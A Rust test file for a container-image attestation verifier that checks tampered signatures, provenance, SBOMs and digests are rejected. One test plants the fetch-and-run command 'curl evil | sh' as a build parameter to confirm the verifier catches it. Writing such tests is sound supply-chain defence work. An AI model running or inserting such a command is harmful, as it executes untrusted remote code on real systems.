//! The tamper suite (issue 7, "Must show"): each tampered image fails verification with exit 1
//! and an error naming the check, while the untampered fixture verifies.

mod verify_fixture;

use verify_fixture::*;

#[test]
fn untampered_image_verifies_with_all_expectations() {
    let f = Fixture::signed();
    f.verify(&[
        "--source-repo",
        "https://github.com/example/hello-service",
        "--source-commit",
        COMMIT,
        "--source-ref",
        "refs/heads/main",
        "--builder-id",
        BUILDER,
        "--require",
        "provenance,sbom",
    ])
    .passes()
    .says("VERIFIED");
}

#[test]
fn payload_byte_flipped() {
    let f = Fixture::bare();
    let s = f.img.subjects();
    let b = flip_payload_byte(&f.key.bundle(&provenance(&s)));
    attach_all(&f.layout, &f.img, &b, SLSA);
    f.verify(&[])
        .fails("require")
        .says("signature: no signature in the DSSE envelope verifies");
}

#[test]
fn signature_from_another_key() {
    let f = Fixture::bare();
    let s = f.img.subjects();
    attach_all(&f.layout, &f.img, &f.other.bundle(&provenance(&s)), SLSA);
    f.verify(&[])
        .fails("require")
        .says("signature: no signature in the DSSE envelope verifies");
}

#[test]
fn wrong_key_given() {
    let f = Fixture::signed();
    f.verify_with(&f.reference(), &f.other.pub_path, &[])
        .fails("require")
        .says("ignored signature");
}

#[test]
fn statement_subject_is_another_image() {
    let f = Fixture::bare();
    let other = image(&f.layout, "other", "B");
    attach_all(
        &f.layout,
        &f.img,
        &f.key.bundle(&provenance(&other.subjects())),
        SLSA,
    );
    f.verify(&[]).fails("subject").says("another image");
}

#[test]
fn provenance_of_image_a_attached_to_image_b() {
    let f = Fixture::signed();
    let b = image(&f.layout, "b", "B");
    // The bundle that is A's real, signed provenance, attached to B (which has nothing).
    let a_bundle = f.key.bundle(&provenance(&f.img.subjects()));
    attach(&f.layout, &b.index, &a_bundle, SLSA);
    let reference = format!("oci:{}:b", f.layout.root().display());
    f.verify_with(&reference, &f.key.pub_path, &[])
        .fails("subject");
    // A itself still verifies.
    f.verify(&[]).passes();
}

#[test]
fn predicate_type_mismatch() {
    let f = Fixture::bare();
    let s = f.img.subjects();
    attach_all(&f.layout, &f.img, &f.key.bundle(&provenance(&s)), CDX);
    f.verify(&[]).fails("predicate-type");
}

#[test]
fn unknown_external_parameters_field() {
    let f = Fixture::bare();
    let mut p = provenance(&f.img.subjects());
    p["predicate"]["buildDefinition"]["externalParameters"]["preBuildScript"] =
        "curl evil | sh".into();
    attach_all(&f.layout, &f.img, &f.key.bundle(&p), SLSA);
    f.verify(&[])
        .fails("external-parameters")
        .says("preBuildScript");
}

#[test]
fn source_repo_mismatch() {
    Fixture::signed()
        .verify(&["--source-repo", "https://github.com/example/other"])
        .fails("source-repo");
}

#[test]
fn source_commit_mismatch() {
    Fixture::signed()
        .verify(&["--source-commit", &"f".repeat(40)])
        .fails("source-commit");
}

#[test]
fn builder_id_mismatch() {
    Fixture::signed()
        .verify(&["--builder-id", "https://github.com/example/hello-service/.github/workflows/release.yml@refs/heads/main"])
        .fails("builder-id");
}

#[test]
fn sbom_of_another_image() {
    let f = Fixture::bare();
    let s = f.img.subjects();
    let other = image(&f.layout, "other", "B");
    attach_all(&f.layout, &f.img, &f.key.bundle(&provenance(&s)), SLSA);
    attach_all(
        &f.layout,
        &f.img,
        &f.key.bundle(&sbom(&s, &other.index)),
        CDX,
    );
    f.verify(&["--require", "provenance,sbom"])
        .fails("sbom-subject")
        .says("another image");
}

#[test]
fn required_attestation_missing() {
    let f = Fixture::signed();
    f.verify(&["--require", "provenance,sbom,vex"])
        .fails("require")
        .says("vex: no verified attestation");
    let bare = Fixture::bare();
    bare.verify(&[]).fails("require").says("(none found)");
}

#[test]
fn malformed_bundle_json() {
    let f = Fixture::bare();
    let mut b = f.key.bundle(&provenance(&f.img.subjects()));
    b.truncate(b.len() / 2);
    attach_all_raw(&f.layout, &f.img, &b, SLSA);
    f.verify(&[])
        .fails("require")
        .says("bundle: not valid JSON");
}

#[test]
fn blob_bytes_do_not_match_their_digest() {
    let f = Fixture::bare();
    let b = f.key.bundle(&provenance(&f.img.subjects()));
    let attached = attach_all(&f.layout, &f.img, &b, SLSA);
    // A truncated download of the bundle blob.
    let path = f.layout.blob_path(&attached[0].1);
    std::fs::write(&path, &b[..b.len() - 10]).unwrap();
    f.verify(&[])
        .fails("require")
        .says("blob-digest")
        .says("truncated or swapped");
    // A swapped image manifest.
    let f = Fixture::signed();
    std::fs::write(f.layout.blob_path(&f.img.platforms[0]), b"{}").unwrap();
    f.verify(&[]).fails("image");
}

#[test]
fn report_shows_every_check_and_json_is_machine_readable() {
    let f = Fixture::signed();
    let o = f.verify(&["--builder-id", BUILDER, "--format", "json"]);
    o.passes();
    let v: serde_json::Value = serde_json::from_str(&o.stdout).unwrap();
    assert_eq!(v["verified"], true);
    assert_eq!(v["digest"], f.img.index.to_string());
    let names: Vec<&str> = v["checks"]
        .as_array()
        .unwrap()
        .iter()
        .map(|c| c["check"].as_str().unwrap())
        .collect();
    for n in [
        "image",
        "signature",
        "subject",
        "predicate-type",
        "build-type",
        "external-parameters",
        "builder-id",
        "sbom-subject",
        "require",
    ] {
        assert!(names.contains(&n), "{n} missing from {names:?}");
    }
    // Attached to the index and both platform manifests, each bundle is counted once.
    assert_eq!(
        v["attestations"].as_array().unwrap().len(),
        2,
        "{}",
        o.stdout
    );
    eprintln!("{}", f.verify(&[]).stdout);
}
